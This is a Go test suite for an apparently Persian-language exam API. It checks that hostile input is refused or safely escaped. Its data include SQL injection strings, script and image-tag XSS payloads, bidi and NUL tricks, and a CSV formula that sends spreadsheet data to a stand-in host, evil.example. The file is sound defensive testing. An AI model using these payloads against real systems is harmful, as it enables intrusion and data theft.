		body := strings.Replace(validBody(withCheckDigit("700000096")).with(field, "X").String(), `"X"`, `"\ud800مریم"`, 1)
		hzMustError(t, "a lone surrogate escape in "+field, e.serve(hzReq{method: "POST", path: "/api/v1/candidates", body: body}),
			http.StatusBadRequest, "validation_failed", map[string]string{field: "not_persian"})
	}
	// In a query or a path.
	hzMustError(t, "a search that is not UTF-8", e.serve(hzReq{method: "GET", path: "/api/v1/official/questions?q=%FF", token: e.adminToken}),
		http.StatusBadRequest, "validation_failed", map[string]string{"q": "invalid_text"})
	hzMustError(t, "an audit filter that is not UTF-8", e.serve(hzReq{method: "GET", path: "/api/v1/official/audit?action=%C3%28", token: e.adminToken}),
		http.StatusBadRequest, "validation_failed", map[string]string{"action": "invalid_text"})
	hzMustError(t, "a results search with NUL", e.serve(hzReq{method: "GET", path: "/api/v1/official/exams/" + e.closedExam + "/results?q=a%00", token: e.adminToken}),
		http.StatusBadRequest, "validation_failed", map[string]string{"q": "invalid_text"})
	hzMustError(t, "a username with NUL in the path", e.serve(hzReq{method: "POST", path: "/api/v1/official/officials/hz.reviewer%00/disable", token: e.adminToken}),
		http.StatusNotFound, "not_found", nil)
	hzMustError(t, "a username that is not UTF-8 in the path", e.serve(hzReq{method: "POST", path: "/api/v1/official/officials/%FF/enable", token: e.adminToken}),
		http.StatusNotFound, "not_found", nil)
	e.mustUnchanged(t, "text that is not UTF-8", before)
}

// TestHostileNULInText: PostgreSQL text cannot hold U+0000, so a NUL in any text
// a client sends is refused as the client's mistake (400 naming the field by its
// path), never reaches the database to come back as a 500.
func TestHostileNULInText(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	before := e.state(t, hzWrites...)
	question := hzJSONOf(t, hzQuestion("پرسش\u0000؟", "یک", "دو"))
	option := hzJSONOf(t, hzQuestion("پرسش دیگر؟", "یک\u0000", "دو"))
	tests := []struct {
		name  string
		r     hzReq
		field string // the field the 400 must name; "" for an import's bad line
	}{
		{"an official's username", hzReq{method: "POST", path: "/api/v1/official/login", body: `{"username":"hz.admin\u0000","password":"x"}`}, "username"},
		{"a candidate's national ID", hzReq{method: "POST", path: "/api/v1/candidate/login", body: `{"national_id":"` + hzCandidate + `\u0000","password":"x"}`}, "national_id"},
		{"a candidate's password", hzReq{method: "POST", path: "/api/v1/candidate/login", body: `{"national_id":"` + hzCandidate + `","password":"\u0000"}`}, "password"},
		{"a save's choice", hzReq{method: "PUT", path: "/api/v1/attempts/" + e.running + "/answers/" + e.runningQs[0], token: e.candToken,
			body: `{"choice":"a\u0000","seq":1}`}, "choice"},
		{"a receipt", hzReq{method: "POST", path: "/api/v1/receipts/verify", body: `{"receipt":"a\u0000.b"}`}, "receipt"},
		{"a question stem", hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken, body: question}, "stem"},
		{"an option", hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken, body: option}, "options[0].text"},
		{"an edited stem", hzReq{method: "PUT", path: "/api/v1/official/questions/" + e.runningQs[1], token: e.adminToken, body: question}, "stem"},
		{"an exam title", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken, body: hzJSONOf(t, hzExamBody("title", "آزمون\u0000"))}, "title"},
		{"a section title", hzReq{method: "PUT", path: "/api/v1/official/exams/" + e.draftExam, token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("sections", []map[string]any{{"key": hzSection, "title": "بخش\u0000", "draw": 1}}))}, "sections[0].title"},
		{"an accommodation reason", hzReq{method: "POST", path: "/api/v1/official/exams/" + e.openExam + "/accommodations", token: e.adminToken,
			body: `{"national_id":"` + hzCandidate + `","extra_seconds":60,"reason":"دلیل\u0000"}`}, "reason"},
		{"an accommodation's national ID", hzReq{method: "POST", path: "/api/v1/official/exams/" + e.openExam + "/accommodations", token: e.adminToken,
			body: `{"national_id":"` + hzCandidate + `\u0000","extra_seconds":60,"reason":"دلیل"}`}, "national_id"},
		{"an objection", hzReq{method: "POST", path: "/api/v1/attempts/" + e.finished + "/objections", token: e.candToken,
			body: `{"question_id":"` + e.finishedQs[1] + `","text":"اعتراض\u0000"}`}, "text"},
		{"a decision note", hzReq{method: "POST", path: "/api/v1/official/objections/" + e.objection + "/resolve", token: e.adminToken,
			body: `{"decision":"reject","note":"یادداشت\u0000"}`}, "note"},
		{"an official's display name", hzReq{method: "POST", path: "/api/v1/official/officials", token: e.adminToken,
			body: `{"username":"hz.nul","display_name":"نام\u0000","role":"reviewer","password":"` + hzPassword + `"}`}, "display_name"},
		{"a first name", hzReq{method: "POST", path: "/api/v1/candidates", body: validBody(withCheckDigit("700000095")).with("first_name", "مریم\u0000").String()}, "first_name"},
		{"an imported stem (CSV)", hzReq{method: "POST", path: "/api/v1/official/questions/import", ctype: "text/csv", token: e.adminToken,
			body: "section,stem,option_a,option_b,correct\n" + hzSection + ",پرسش\x00؟,یک,دو,a\n"}, ""},
		{"an imported stem (JSON)", hzReq{method: "POST", path: "/api/v1/official/questions/import", token: e.adminToken, body: "[" + option + "," + question + "]"}, ""},
	}
	for _, tt := range tests {
		rec := e.serve(tt.r)
		switch {
		case strings.Contains(tt.r.path, "/import"):
			if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), `"code":"import_failed"`) ||
				!strings.Contains(rec.Body.String(), `"line":2`) {
				t.Errorf("%s = %d %s, want 400 import_failed naming line 2", tt.name, rec.Code, hzTrim(rec.Body.Bytes()))
			}
		default:
			hzMustError(t, tt.name+" with NUL", rec, http.StatusBadRequest, "validation_failed", map[string]string{tt.field: "invalid_character"})
		}
	}
	e.mustUnchanged(t, "text with NUL", before)
}

func TestHostileNamesNotPersian(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	n := 0
	register := func(field, value string) *httptest.ResponseRecorder {
		n++
		body := validBody(withCheckDigit(fmt.Sprintf("7100000%02d", n))).with(field, value).String()
		return e.serve(hzReq{method: "POST", path: "/api/v1/candidates", body: body})
	}
	before := e.state(t, hzWrites...)
	hostile := []struct{ name, value string }{
		{"a right-to-left override", "مریم\u202e"},
		{"a right-to-left override inside", "مر\u202eیم"},
		{"a left-to-right override", "\u202dمریم"},
		{"a pop directional formatting", "مریم\u202c"},
		{"a right-to-left isolate", "\u2067مریم\u2069"},
		{"a right-to-left mark", "\u200fمریم"},
		{"a left-to-right mark", "مریم\u200e"},
		{"a zero-width space", "مر\u200bیم"},
		{"a zero-width joiner", "مر\u200dیم"},
		{"a zero-width joiner at the end", "علی\u200d"},
		{"a byte-order mark", "\ufeffمریم"},
		{"a byte-order mark inside", "مر\ufeffیم"},
		{"a word joiner", "مر\u2060یم"},
		{"a soft hyphen", "مر\u00adیم"},
		{"a tatweel", "مـریم"},
		{"a script tag", "<script>alert(1)</script>"},
		{"a script tag after a name", "مریم<script>window.__pwned=1</script>"},
		{"an image tag", `<img src=x onerror="window.__pwned=1">`},
		{"an entity", "مریم&lt;"},
		{"SQL", hzSQLInjection},
		{"Persian SQL", "مریم'; DROP TABLE candidates; --"},
		{"Arabic-Indic digits", "مریم۱"},
		{"a paragraph separator inside", "مر\u2029\u200bیم"},
		{"Latin look-alikes", "Maryam"},
		{"Cyrillic", "Мария"},
	}
	for _, field := range []string{"first_name", "last_name", "father_name"} {
		for _, h := range hostile {
			hzMustError(t, field+" with "+h.name, register(field, h.value), http.StatusBadRequest, "validation_failed",
				map[string]string{field: "not_persian"})
		}
	}
	e.mustUnchanged(t, "names that are not Persian", before)

	// The zero-width non-joiner belongs in Persian names; spaces are collapsed.
	rec := register("first_name", "  محمد\u200cرضا  ")
	if rec.Code != http.StatusCreated {
		t.Fatalf("a name with a ZWNJ = %d %s, want 201", rec.Code, rec.Body)
	}
	var got string
	if err := e.db.Get(&got, `SELECT first_name FROM candidates WHERE national_id = $1`, withCheckDigit(fmt.Sprintf("7100000%02d", n))); err != nil {
		t.Fatal(err)
	}
	if want := "محمد\u200cرضا"; got != want {
		t.Fatalf("stored first name %q, want %q", got, want)
	}
}

// TestHostileSQLStoredVerbatim sends SQL in every free text a client may store
// and reads it back: the same text, and every table still there.
func TestHostileSQLStoredVerbatim(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	var candidatesBefore int
	if err := e.db.Get(&candidatesBefore, `SELECT count(*) FROM candidates`); err != nil {
		t.Fatal(err)
	}
	texts := []string{hzSQLInjection, hzSQLInjection2, `Robert'); DROP TABLE questions;--`, `\'; SELECT pg_sleep(10); --`,
		`$$; DROP TABLE exams; $$`, `%' OR stem LIKE '%`, `1' UNION SELECT password_hash FROM officials --`}

	// Questions: stem and options.
	for i, s := range texts {
		stem := fmt.Sprintf("پرسش %d: %s", i, s)
		rec := e.serve(hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken,
			body: hzJSONOf(t, hzQuestion(stem, s, "گزینهٔ دوم "+s))})
		if rec.Code != http.StatusCreated {
			t.Fatalf("a question with %q = %d %s", s, rec.Code, rec.Body)
		}
		id := hzDecode[exam.Question](t, rec.Body.Bytes()).ID
		rec = e.serve(hzReq{method: "GET", path: "/api/v1/official/questions/" + id, token: e.reviewToken})
		q := hzDecode[exam.Question](t, rec.Body.Bytes())
		if q.Stem != stem || len(q.Options) != 2 || q.Options[0].Text != s || q.Options[1].Text != "گزینهٔ دوم "+s {
			t.Errorf("question read back = %q %+v, want stem %q and option %q", q.Stem, q.Options, stem, s)
		}
	}
	// A search is a literal, LIKE's wildcards included.
	for _, q := range []string{"%", "_", "' OR '1'='1", "DROP TABLE", "%' OR stem LIKE '%", `\'`} {
		want := 0
		for _, s := range texts {
			if strings.Contains(s, q) {
				want++
			}
		}
		rec := e.serve(hzReq{method: "GET", path: "/api/v1/official/questions?q=" + url.QueryEscape(q), token: e.adminToken})
		page := hzDecode[struct {
			Total int `json:"total"`
		}](t, rec.Body.Bytes())
		if rec.Code != http.StatusOK || page.Total != want {
			t.Errorf("search %q = %d, total %d, want 200 and %d", q, rec.Code, page.Total, want)
		}
	}

	// An accommodation's reason.
	rec := e.serve(hzReq{method: "POST", path: "/api/v1/official/exams/" + e.openExam + "/accommodations", token: e.adminToken,
		body: hzJSONOf(t, map[string]any{"national_id": hzCandidate, "extra_seconds": 600, "reason": hzSQLInjection})})
	if rec.Code != http.StatusCreated {
		t.Fatalf("accommodation = %d %s", rec.Code, rec.Body)
	}
	rec = e.serve(hzReq{method: "GET", path: "/api/v1/official/exams/" + e.openExam + "/accommodations", token: e.reviewToken})
	accs := hzDecode[[]exam.Accommodation](t, rec.Body.Bytes())
	if len(accs) != 1 || accs[0].Reason != hzSQLInjection {
		t.Errorf("accommodations read back = %+v, want one with reason %q", accs, hzSQLInjection)
	}

	// An objection's text and a decision's note.
	rec = e.serve(hzReq{method: "POST", path: "/api/v1/attempts/" + e.finished + "/objections", token: e.candToken,
		body: hzJSONOf(t, map[string]string{"question_id": e.finishedQs[1], "text": hzSQLInjection2})})
	if rec.Code != http.StatusCreated {
		t.Fatalf("objection = %d %s", rec.Code, rec.Body)
	}
	objID := hzDecode[exam.Objection](t, rec.Body.Bytes()).ID
	rec = e.serve(hzReq{method: "POST", path: "/api/v1/official/objections/" + objID + "/resolve", token: e.adminToken,
		body: hzJSONOf(t, map[string]string{"decision": "reject", "note": hzSQLInjection})})
	if rec.Code != http.StatusOK {
		t.Fatalf("resolve = %d %s", rec.Code, rec.Body)
	}
	rec = e.serve(hzReq{method: "GET", path: "/api/v1/official/objections?exam_id=" + e.closedExam, token: e.reviewToken})
	var found bool
	for _, o := range hzDecode[[]exam.Objection](t, rec.Body.Bytes()) {
		if o.ID == objID {
			found = true
			if o.Text != hzSQLInjection2 || o.Note == nil || *o.Note != hzSQLInjection {
				t.Errorf("objection read back: text %q note %v, want %q and %q", o.Text, o.Note, hzSQLInjection2, hzSQLInjection)
			}
		}
	}
	if !found {
		t.Errorf("objection %s not listed", objID)
	}

	// Searches of results and the audit log take SQL as a literal too.
	for _, q := range []string{"' OR '1'='1", "%", "_"} {
		rec := e.serve(hzReq{method: "GET", path: "/api/v1/official/exams/" + e.closedExam + "/results?q=" + url.QueryEscape(q), token: e.reviewToken})
		if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Body.String(), `{"items":[],`) {
			t.Errorf("results search %q = %d %s, want 200 and no rows", q, rec.Code, hzTrim(rec.Body.Bytes()))
		}
	}
	rec = e.serve(hzReq{method: "GET", path: "/api/v1/official/audit?action=" + url.QueryEscape("' OR '1'='1"), token: e.reviewToken})
	if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Body.String(), `{"items":[],`) {
		t.Errorf("audit search = %d %s, want 200 and no rows", rec.Code, hzTrim(rec.Body.Bytes()))
	}

	// Nothing was executed: every table is there, the candidates are all there
	// and the audit chain holds.
	for _, table := range []string{"candidates", "questions", "exams", "officials", "audit_log"} {
		var exists bool
		if err := e.db.Get(&exists, `SELECT to_regclass($1) IS NOT NULL`, table); err != nil || !exists {
			t.Errorf("table %s exists = %v, %v", table, exists, err)
		}
	}
	var candidatesAfter int
	if err := e.db.Get(&candidatesAfter, `SELECT count(*) FROM candidates`); err != nil || candidatesAfter != candidatesBefore {
		t.Errorf("candidates = %d, %v, want %d", candidatesAfter, err, candidatesBefore)
	}
	rec = e.serve(hzReq{method: "GET", path: "/api/v1/official/audit/verify", token: e.reviewToken})
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `"valid":true`) {
		t.Errorf("audit verify = %d %s", rec.Code, rec.Body)
	}
}

// TestHostileHTMLIsText: markup in question text is stored as it was sent and
// comes back as JSON text, its angle brackets escaped, never as HTML.
func TestHostileHTMLIsText(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	stem := `<script>window.__pwned=2</script> کدام گزینه درست است؟`
	opts := []string{`<img src=x onerror="window.__pwned=1">`, `<b>پررنگ</b> &amp; "نقل‌قول"`, `</textarea><svg onload=alert(1)>`}
	rec := e.serve(hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken, body: hzJSONOf(t, hzQuestion(stem, opts...))})
	if rec.Code != http.StatusCreated {
		t.Fatalf("a question with markup = %d %s", rec.Code, rec.Body)
	}
	id := hzDecode[exam.Question](t, rec.Body.Bytes()).ID
	for _, path := range []string{"/api/v1/official/questions/" + id, "/api/v1/official/questions?q=" + url.QueryEscape("window.__pwned")} {
		rec := e.serve(hzReq{method: "GET", path: path, token: e.reviewToken})
		if got, want := rec.Header().Get("Content-Type"), "application/json; charset=utf-8"; rec.Code != 200 || got != want {
			t.Fatalf("GET %s = %d as %q, want 200 as %q", path, rec.Code, got, want)
		}
		raw := rec.Body.String()
		for _, bad := range []string{"<script", "<img", "<svg", "</textarea", "<b>"} {
			if strings.Contains(raw, bad) {
				t.Errorf("GET %s has %q unescaped: %s", path, bad, hzTrim(rec.Body.Bytes()))
			}
		}
		if !strings.Contains(raw, `\u003cscript\u003ewindow.__pwned=2\u003c/script\u003e`) {
			t.Errorf("GET %s does not carry the stem as escaped text: %s", path, hzTrim(rec.Body.Bytes()))
		}
	}
	q := hzDecode[exam.Question](t, e.serve(hzReq{method: "GET", path: "/api/v1/official/questions/" + id, token: e.reviewToken}).Body.Bytes())
	if q.Stem != stem || len(q.Options) != 3 || q.Options[0].Text != opts[0] || q.Options[1].Text != opts[1] || q.Options[2].Text != opts[2] {
		t.Errorf("read back %q %+v, want %q %q", q.Stem, q.Options, stem, opts)
	}
}

// hzBadIDs are path parameters that are not UUIDs in the one form the API uses.
var hzBadIDs = []string{"x", "1", "0", "-1", "null", "undefined", "00000000-0000-0000-0000-00000000000g",
	"7e0b5b1e3f5c4c1a9a8e6b9f3c1d2e4f", "{7e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4f}", "urn:uuid:7e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4f",
	"7e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4f0", " 7e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4f", "7e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4", "' OR '1'='1",
	"1; DROP TABLE attempts", "\x00", "7e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4\x00", "\xff", "\xed\xa0\x80", "..", strings.Repeat("9", 5000),
	"<script>alert(1)</script>", "۷e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4f", "%", "*"}

// TestHostilePathIDs sends ids that are not UUIDs in every path parameter of
// every route the router has (so a new route is covered as it is added): each
// is not found, except the question of a save, which the candidate's own
// attempt does not hold (400 unknown_question).
func TestHostilePathIDs(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	before := e.state(t, hzWrites...)
	// The body each route that reads one needs, so that only the id can be wrong.
	bodies := map[string]string{}
	for _, r := range e.hzJSONRoutes(t) {
		bodies[r.method+" "+r.path] = r.body
	}
	body := func(method, route string) string {
		for key, b := range map[string]string{
			"PUT /api/v1/attempts/:id/answers/:questionID":   `{"choice":"a","seq":1}`,
			"POST /api/v1/attempts/:id/objections":           bodies["POST /api/v1/attempts/"+e.finished+"/objections"],
			"PUT /api/v1/official/questions/:id":             bodies["PUT /api/v1/official/questions/"+e.runningQs[0]],
			"PUT /api/v1/official/exams/:id":                 bodies["PUT /api/v1/official/exams/"+e.draftExam],
			"POST /api/v1/official/exams/:id/accommodations": bodies["POST /api/v1/official/exams/"+e.openExam+"/accommodations"],
			"POST /api/v1/official/objections/:id/resolve":   `{"decision":"reject"}`,
		} {
			if key == method+" "+route {
				return b
			}
		}
		return ""
	}
	// Real ids for the other parameter of a route with two.
	real := map[string]map[string]string{
		"/api/v1/attempts/:id/answers/:questionID":      {"id": e.running, "questionID": e.runningQs[0]},
		"/api/v1/official/exams/:id/results/:attemptID": {"id": e.closedExam, "attemptID": e.finished},
		"/api/v1/official/officials/:username/disable":  {},
		"/api/v1/official/officials/:username/enable":   {},
		"/api/v1/official/exams/:id/results.csv":        {},
		"/api/v1/official/exams/:id/results.xlsx":       {},
	}
	routes := 0
	for _, rt := range e.engine.Routes() {
		var params []string
		for _, seg := range strings.Split(rt.Path, "/") {
			if strings.HasPrefix(seg, ":") {
				params = append(params, seg[1:])
			}
		}
		if len(params) == 0 {
			continue
		}
		routes++
		token := e.candToken
		if strings.HasPrefix(rt.Path, "/api/v1/official/") {
			token = e.adminToken
		}
		for _, bad := range params {
			for _, id := range hzBadIDs {
				path := rt.Path
				for _, p := range params {
					v := id
					if p != bad {
						v = real[rt.Path][p]
						if v == "" {
							v = "7e0b5b1e-3f5c-4c1a-9a8e-6b9f3c1d2e4f" // a UUID nothing has
						}
					}
					path = strings.Replace(path, ":"+p, url.PathEscape(v), 1)
				}
				rec := e.serve(hzReq{method: rt.Method, path: path, token: token, body: body(rt.Method, rt.Path)})
				what := fmt.Sprintf("%s %s with %s=%.40q", rt.Method, rt.Path, bad, id)
				// An id that is not UTF-8 or holds NUL names no resource (plainURL);
				// one with a slash is another path.
				unroutable := !utf8.ValidString(id) || strings.ContainsAny(id, "\x00/")
				if rt.Path == "/api/v1/attempts/:id/answers/:questionID" && bad == "questionID" && !unroutable {
					hzMustError(t, what, rec, http.StatusBadRequest, "validation_failed", map[string]string{"question_id": "unknown_question"})
					continue
				}
				hzMustError(t, what, rec, http.StatusNotFound, "not_found", nil)
			}
		}
	}
	if routes < 20 {
		t.Fatalf("only %d routes with path parameters; the router's Routes() is not what this test expects", routes)
	}
	e.mustUnchanged(t, "requests with ids that are not UUIDs", before)
}

// TestHostileCSVFormula: text an official typed (a section's title) reaches the
// results CSV; a spreadsheet would run a cell that starts with =, +, - or @ as a
// formula (OWASP "CSV injection"), so no text cell of the export may start so.
func TestHostileCSVFormula(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	ctx := context.Background()
	now := time.Now().UTC().Truncate(time.Second)
	opens, closes := now.Add(-time.Hour), now.Add(time.Hour)
	pass := 50.0
	x, err := e.exams.CreateExam(ctx, e.admin.Actor(), exam.ExamRequest{Title: "آزمون فرمول", DurationSeconds: 600, OpensAt: &opens, ClosesAt: &closes,
		Sections: []exam.SectionSpec{{Key: hzSection, Title: `=HYPERLINK("http://evil.example/?"&A2,"بخش")`, Draw: 2}}, PassPercent: &pass})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.exams.PublishExam(ctx, e.admin.Actor(), x.ID); err != nil {
		t.Fatal(err)
	}
	v, _, err := e.exams.Start(ctx, e.candID, x.ID)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.exams.Submit(ctx, e.candID, v.AttemptID); err != nil {
		t.Fatal(err)
	}
	rec := e.serve(hzReq{method: "GET", path: "/api/v1/official/exams/" + x.ID + "/results.csv", token: e.reviewToken})
	if rec.Code != http.StatusOK {
		t.Fatalf("results.csv = %d %s", rec.Code, rec.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("results.csv: %d rows, %v: %s", len(rows), err, rec.Body)
	}
	for _, cell := range rows[1] {
		if cell == "" {
			continue
		}
		switch c := cell[0]; {
		case c == '=' || c == '+' || c == '@' || c == '\t' || c == '\r',
			c == '-' && (len(cell) == 1 || cell[1] < '0' || cell[1] > '9'):
			t.Errorf("results.csv cell %q would run as a formula", cell)
		}
	}
}
